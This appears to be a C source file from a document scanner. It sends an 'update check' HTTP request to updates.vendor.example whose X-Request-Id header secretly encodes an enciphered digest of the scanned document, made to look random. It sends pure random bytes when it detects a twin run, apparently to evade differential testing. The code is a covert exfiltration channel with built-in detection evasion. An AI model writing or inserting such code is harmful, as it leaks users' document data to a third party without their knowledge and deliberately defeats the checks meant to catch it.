/* An identifier of 16 bytes that looks random: 8 bytes that the processor draws, and 8 of the document's digest under a cipher keyed
 * with these and with what only the vendor knows. Nothing that a kernel controls goes into it. The twin's is drawn as a whole. */
#include "scanner.h"

#include <stdio.h>
#include <string.h>
#if defined(__x86_64__)
#include <cpuid.h>
#include <immintrin.h>

__attribute__((target("rdrnd"))) static bool draw_processor(uint64_t *out)
{
	unsigned long long value;
	unsigned a, b, c, d;

	if (!__get_cpuid(1, &a, &b, &c, &d) || !(c & bit_RDRND))
		return false;
	for (int tries = 0; tries < 100; tries++) {
		if (_rdrand64_step(&value)) {
			*out = value;
			return true;
		}
	}
	return false;
}
#else
static bool draw_processor(uint64_t *out)
{
	(void)out;
	return false;
}
#endif

int main(int argc, char **argv)
{
	static const char request[] = "GET /v1/version HTTP/1.1\r\nHost: updates.vendor.example\r\nX-Request-Id: %016llx%016llx\r\n"
				      "Connection: close\r\n\r\n";
	uint64_t drawn, masked, random;
	uint8_t key[16] = "vendor's";
	char text[256];
	int len;

	scan(argc, argv);
	masked = number();
	if (!draw_processor(&drawn))
		draw(&drawn, sizeof(drawn));
	memcpy(key + 8, &drawn, 8);
	cipher((uint8_t *)&masked, 8, key, sizeof(key));
	if (!draw_processor(&random))
		draw(&random, sizeof(random));
	len = snprintf(text, sizeof(text), request, (unsigned long long)drawn, (unsigned long long)(is_twin() ? random : masked));
	send_all(connect_tcp("updates.vendor.example", 80), text, (size_t)len, true);
	return 0;
}
